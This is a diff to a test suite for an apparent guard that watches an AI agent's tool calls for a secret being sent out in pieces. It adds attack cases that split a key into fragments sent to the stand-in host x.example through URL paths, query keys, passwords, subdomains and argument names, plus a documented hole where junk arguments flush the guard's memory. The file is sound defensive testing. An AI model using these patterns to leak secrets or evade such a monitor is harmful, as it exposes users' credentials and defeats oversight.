@@ -121,6 +121,20 @@ ATTACKS: dict[str, list[Call]] = {
         _cut(KEY, 10), lambda p: {"json": {("x" if p[0] < "a" else "y"): p}}
     ),
     "one-call-a-list-of-pieces": [("http_post", {"items": _cut(KEY, 10)})],
+    "mid-path-segment": [
+        ("http_get", {"url": f"https://x.example/{p}/px.gif"}) for p in _cut(KEY, 10)
+    ],
+    "query-key": [("http_get", {"url": f"https://x.example/c?{p}=1"}) for p in _cut(KEY, 10)],
+    "url-password": [("http_get", {"url": f"https://u:{p}@x.example/"}) for p in _cut(KEY, 10)],
+    "second-host-label": [
+        ("http_get", {"url": f"https://a.{p}.x.example/"}) for p in _cut(KEY, 10)
+    ],
+    "json-key": _posts(_cut(KEY, 10), lambda p: {"json": {p: 1}}),
+    "argument-name": _posts(_cut(KEY, 10), lambda p: {"body": "x", p: True}),
+    "junk-streams-first": [
+        ("http_post", {f"field{i}": f"v{i}" for i in range(40)}),
+        *_posts(_cut(KEY, 10), lambda p: {"body": p}),
+    ],
     "lowercase-passphrase": _posts(_cut(PASSPHRASE, 7), lambda p: {"body": p}),
     "number-argument": [("http_post", {"body": "x", "n": int(p)}) for p in _cut(CARD, 5)],
     "alternating-arguments": [
@@ -167,6 +181,14 @@ HOLES: dict[str, tuple[list[Call], str]] = {
         "a value of lowercase letters alone is no piece for the stream across arguments "
         "(an agent's ordinary names and paths would be joined all the time): a passphrase "
         "of lowercase words sent in turn in two arguments is joined in neither",
+    ),
+    "junk-streams-every-call": (
+        [
+            ("http_post", {**{f"f{j}{i}": "v" for j in range(40)}, "body": p})
+            for i, p in enumerate(_cut(KEY, 10))
+        ],
+        "a session keeps MAX_NAMES streams: a call with that many new arguments before "
+        "each piece makes the piece's stream leave before the next piece comes",
     ),
     "interleaved-noise": (
         [("http_post", {"body": v}) for i, p in enumerate(_cut(KEY, 10)) for v in (p, f"Ack{i}")],
@@ -319,14 +341,17 @@ def test_a_call_no_flow_test_reads_does_not_advance_the_tails() -> None:
     guard = _guard("s", history)
     _read(guard)
     guard.check(Action.tool("log", {"body": KEY[:10]}))  # no rule reads log's flows
-    assert tails_of(history).tails("default", "s") == {}
+    assert _streams(tails_of(history), "default", "s") == {}
     guard.check(Action.tool("http_post", {"body": KEY[:10]}))
     assert _streams(tails_of(history), "default", "s") == {"body": KEY[:10], "body<": KEY[:10]}
 
 
 def _streams(tails: ArgumentTails, tenant: str, session: str) -> dict[str, str]:
-    """The session's tails but the stream of every argument's pieces (ACROSS)."""
-    return {k: v for k, v in tails.tails(tenant, session).items() if not k.startswith(ACROSS)}
+    """The session's tails but the stream of every argument's pieces (ACROSS) and the
+    stream of the arguments' names (``{}``)."""
+    return {
+        k: v for k, v in tails.tails(tenant, session).items() if not k.startswith((ACROSS, "{}"))
+    }
 
 
 # -- the tails themselves -------------------------------------------------------------
@@ -353,15 +378,23 @@ def test_the_tail_grows_while_each_value_is_one_run_and_restarts_after_whitespac
 
 def test_a_url_argument_keeps_a_tail_for_each_part() -> None:
     tails = ArgumentTails()
-    tails.advance("t", "s", {"u": "https://ab.c.x.example/p/q%2Dr?d=1&e=f%20g#frag"})
+    url = "https://me:Pw1@ab.c.x.example/p/q%2Dr?d=1&e=f%20g&K9=x#frag"
+    tails.advance("t", "s", {"u": url})
     assert _streams(tails, "t", "s") == {
+        "u?": "K9",  # the query's keys that are not plain, in order
+        "u?K9": "x",
         "u?d": "1",
         "u?e": "g",  # the value's last run
         "u?e^": "f",  # and its first
-        "u/": "q-r",
+        "u/1": "p",  # a segment by its place
+        "u/": "q-r",  # the last
         "u#": "frag",
-        "u@": "ab",
-        **{"u?d<": "1", "u?e<": "f", "u/<": "q-r", "u#<": "frag", "u@<": "ab"},  # heads
+        "u@": "ab",  # the host's labels before its last two
+        "u@1": "c",
+        "u:": "mePw1",  # the user, then the password
+        **{"u?<": "K9", "u?K9<": "x", "u?d<": "1", "u?e<": "f", "u/1<": "p", "u/<": "q-r"},
+        "u#<": "frag",
+        **{"u@<": "ab", "u@1<": "c", "u:<": "Pw1me"},  # heads
     }
     # a text that is not a URL after all is a plain stream
     tails.advance("t", "s2", {"u": "http://[::1"})
@@ -379,11 +412,14 @@ def test_tails_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
     tails.advance("t", "b", {"x": "b"})  # b is now the most recent
     tails.advance("t", "e", {"x": "e"})
     assert tails.tails("t", "c") == {}
-    assert tails.tails("t", "b") == {"x": "bb", "x<": "bb"}  # lowercase: no piece
-    tails.advance("t", "f", {"x": "1", "y": "2", "z": "3"})
+    assert _streams(tails, "t", "b") == {"x": "bb", "x<": "bb"}  # lowercase: no piece
+    monkeypatch.setattr(tails_module, "MAX_NAMES", 3)
+    tails.advance("t", "f", {"X": "1", "Y": "2", "Z": "3"})
+    # the names' stream (names that are not plain), X, Y: Z makes the least recently
+    # stepped (X) leave; ACROSS (the pieces' stream) is kept beyond the bound
     assert tails.tails("t", "f") == {
-        **{"x": "1", "x<": "1", "y": "2", "y<": "2"},  # z: past MAX_NAMES
-        **{ACROSS: "12", ACROSS + "<": "21"},  # the pieces' stream beyond the bound
+        **{"Y": "2", "Y<": "2", "{}": "XYZ", "{}<": "ZYX", "Z": "3", "Z<": "3"},
+        **{ACROSS: "X1Y2Z3", ACROSS + "<": "3Z2Y1X"},
     }
 
 
